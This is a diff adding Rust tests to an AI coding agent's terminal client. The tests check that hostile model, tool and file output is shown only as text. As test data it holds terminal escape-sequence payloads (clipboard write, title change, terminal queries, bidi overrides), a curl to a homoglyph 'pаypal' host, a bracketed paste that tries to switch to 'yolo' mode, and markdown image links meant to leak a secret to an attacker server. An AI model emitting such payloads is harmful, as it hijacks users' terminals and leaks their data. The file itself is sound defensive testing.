@@ -1,0 +1,165 @@
+//! Text of others never reaches the terminal as anything but text, wherever it comes from.
+
+use std::fs;
+
+use serde_json::json;
+
+use crate::bash;
+use crate::support::desk::{Desk, with_server};
+use crate::support::model_server::{ModelServer, Reply};
+use crate::support::terminal::{Slug, key};
+
+/// Clears, titles, writes to the clipboard, links, asks for answers, in both forms of controls.
+const EVIL: &str = "\u{1b}]0;PWN\u{7}\u{1b}]52;c;UFdO\u{7}\u{1b}]8;;http://pwn\u{1b}\\x\
+                    \u{1b}]9;PWN\u{7}\u{1b}]777;notify;PWN;PWN\u{7}\u{1b}[21t\u{1b}[>0q\
+                    \u{1b}P+q544e\u{1b}\\\u{9b}2J\u{9d}0;PWN\u{9c}\u{7f}\u{202e}\u{e0041}";
+
+/// What of it may never be in the terminal's input.
+const NEVER: [&str; 14] = [
+    "]0;PWN\u{7}",
+    "]52;c;UFdO",
+    "]8;;http://pwn",
+    "]9;PWN",
+    "]777;notify;PWN",
+    "\u{1b}[21t",
+    "\u{1b}[>0q",
+    "\u{1b}P+q544e",
+    "\u{9b}",
+    "\u{9d}",
+    "\u{9c}",
+    "\u{7f}",
+    "\u{202e}",
+    "\u{e0041}",
+];
+
+#[track_caller]
+fn assert_harmless(slug: &Slug) {
+    let raw = slug.raw();
+    for never in NEVER {
+        // A sequence without its escape is text that is told to be one.
+        let is_sequence = raw.match_indices(never).any(|(at, _)| {
+            !never.starts_with(']')
+                || raw[..at].ends_with('\u{1b}')
+                || raw[..at].ends_with('\u{9d}')
+        });
+        assert!(!is_sequence, "{never:?} is in what the terminal got");
+    }
+}
+
+#[test]
+fn s73_what_models_tools_files_and_servers_send_is_shown_and_not_obeyed() {
+    let (desk, server) = (Desk::new(), ModelServer::start());
+    desk.write(".git/HEAD", &format!("ref: refs/heads/{EVIL}\n"));
+    desk.write(&format!("file{}", EVIL.replace('/', "_")), "needle\n");
+    desk.write_home("settings.json", r#"{"permissions":{"allow":["Bash(printf *)"]}}"#);
+    let printf = format!("printf '%s\\n' '{EVIL}out'");
+    server.reply(Reply::thinking(&format!("thought {EVIL}"), &format!("said {EVIL}")));
+    let mut slug = Slug::chat(&desk, &server);
+    slug.say("speak");
+    slug.wait_for("said");
+
+    server.reply(Reply::calls(
+        "",
+        &[
+            ("g1", "Glob", json!({"pattern": "*"})),
+            ("g2", "Grep", json!({"pattern": "needle"})),
+            ("x1", EVIL, json!({EVIL: EVIL})),
+            ("b1", "Bash", json!({"command": printf, "description": EVIL})),
+        ],
+    ));
+    server.reply(Reply::text("Called."));
+    slug.say("call");
+    slug.answer("printf", "y");
+    slug.wait_for("Called.");
+
+    server.reply(Reply::error(400, &format!("refused {EVIL}")));
+    slug.say("fail");
+    slug.wait_for("refused");
+    assert_harmless(&slug);
+
+    // Its session has the evil text for a title.
+    server.reply(Reply::text("Titled."));
+    slug.keys("/new\r");
+    slug.wait_for_no("refused");
+    // What can be typed of it: a terminal sends no controls as text.
+    slug.keys(&format!("title {}", EVIL.replace(['\u{1b}', '\u{7}', '\u{7f}'], "")));
+    slug.wait_for("‹U+E0041›");
+    slug.keys(key::ENTER);
+    slug.wait_for("Titled.");
+    slug.keys(key::CTRL_B);
+    slug.wait_for("Sessions");
+    slug.keys(key::ESC);
+    slug.wait_for_no("Sessions");
+    assert_harmless(&slug);
+    slug.quit();
+}
+
+#[test]
+fn s73_headless_answers_are_harmless_on_a_terminal() {
+    let (desk, server) = (Desk::new(), ModelServer::start());
+    let endpoint = server.endpoint();
+    server.reply(Reply::text(&format!("said {EVIL}")));
+    let run = |arguments: &[&str]| {
+        let arguments = with_server(&endpoint, arguments);
+        let mut slug = Slug::at(&desk, 100, 30).args(&arguments).open();
+        slug.wait();
+        assert_harmless(&slug);
+        slug.raw()
+    };
+    assert!(run(&["-p", "speak"]).contains("said ␛]0;PWN␇"));
+    assert!(run(&["sessions", "list"]).contains("speak"));
+    let session = desk.sessions()[0]["session_id"].as_str().unwrap().to_owned();
+    assert!(run(&["sessions", "show", &session]).contains("said ␛]0;PWN␇"));
+    run(&["sessions", "show", &session, "--json"]);
+    // A program gets what the model said.
+    server.reply(Reply::text(&format!("said {EVIL}")));
+    assert!(desk.ask(&server, &["-p", "speak"]).out.contains(EVIL));
+}
+
+#[test]
+fn s79_a_question_shows_letters_that_only_look_latin() {
+    let (desk, server) = (Desk::new(), ModelServer::start());
+    server.reply(bash("c1", "curl https://pаypal.example \u{202e}\u{2066}\u{200b}"));
+    server.reply(Reply::text("Done."));
+    let mut slug = Slug::chat(&desk, &server);
+    slug.say("go");
+    slug.wait_for_dialog("curl");
+    slug.wait_for("Look twice: the а in pаypal is U+0430");
+    slug.wait_for("‹U+202E›‹U+2066›‹U+200B›");
+    slug.keys("n");
+    slug.wait_for("Done.");
+    assert_harmless(&slug);
+}
+
+#[test]
+fn s81_a_paste_runs_nothing_and_answers_nothing() {
+    let (desk, server) = (Desk::new(), ModelServer::start());
+    server.reply(bash("c1", "touch made"));
+    server.reply(Reply::text("Done."));
+    let mut slug = Slug::chat(&desk, &server);
+    slug.keys("\u{1b}[200~one\r/mode yolo\ry\r\u{1b}[201~");
+    slug.wait_for("/mode yolo");
+    assert!(server.chats().is_empty(), "a paste sends nothing");
+    slug.keys("\r");
+    slug.wait_for_dialog("touch made");
+    slug.keys("\u{1b}[200~y\ra\r\u{1b}[201~");
+    slug.keys("n");
+    slug.wait_for("Done.");
+    assert!(!desk.path("made").exists());
+    assert!(fs::read_dir(desk.workspace()).unwrap().all(|it| it.unwrap().file_name() != "made"));
+}
+
+#[test]
+fn s82_nothing_is_fetched_for_what_an_answer_names() {
+    let (desk, server, evil) = (Desk::new(), ModelServer::start(), ModelServer::start());
+    let address = format!("{}/?q=SECRET", evil.endpoint());
+    server.reply(Reply::text(&format!(
+        "![x]({address}) [docs]({address}) [https://example.org]({address}) told"
+    )));
+    let mut slug = Slug::chat(&desk, &server);
+    slug.say("go");
+    slug.wait_for("told");
+    slug.wait_for("?q=SECRET");
+    slug.quit();
+    assert_eq!(evil.connections(), 0);
+}
